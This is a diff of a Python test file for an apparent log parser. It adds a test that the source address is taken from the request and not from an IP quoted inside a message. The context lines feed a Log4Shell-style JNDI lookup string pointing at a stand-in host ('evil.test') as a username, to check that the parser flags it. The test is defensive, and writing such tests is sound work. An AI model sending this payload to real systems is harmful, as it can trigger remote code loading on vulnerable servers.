@@ -315,3 +315,8 @@ def test_a_name_that_is_an_attack_stays_in_sight(line):
     told = _read(line.format("${jndi:ldap://evil.test/a}"))
     assert told.action == "login failed" and "jndi ldap" in told.template and "jndi:ldap" in " ".join(told.focus)
     assert not _read(line.format("ann")).focus
+
+
+def test_what_a_message_says_of_an_address_is_not_where_it_came_from():
+    told = _read(json.dumps({"method": "POST", "url": "/chat", "remoteAddr": "203.0.113.9", "message": "Login failed: 'bob' (Remote IP: '10.0.0.1')"}))
+    assert dict(told.entities)["src"] == "203.0.113.9"
